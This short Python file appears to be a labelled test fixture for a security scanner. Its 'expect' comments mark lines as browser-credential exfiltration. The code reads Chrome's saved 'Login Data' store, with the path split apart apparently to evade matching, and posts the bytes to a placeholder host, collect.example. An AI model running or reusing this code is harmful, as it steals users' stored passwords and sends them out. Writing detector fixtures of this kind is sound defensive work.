import pathlib
import urllib.request

home = pathlib.Path.home()
folder = home / ".config" / "-".join(["google", "chrome"]) / "Default"
data = (folder / " ".join(["Login", "Data"])).read_bytes() # expect: data-exfiltration/browser-store
urllib.request.urlopen("https://collect.example/", data=data) # expect: data-exfiltration/browser-store
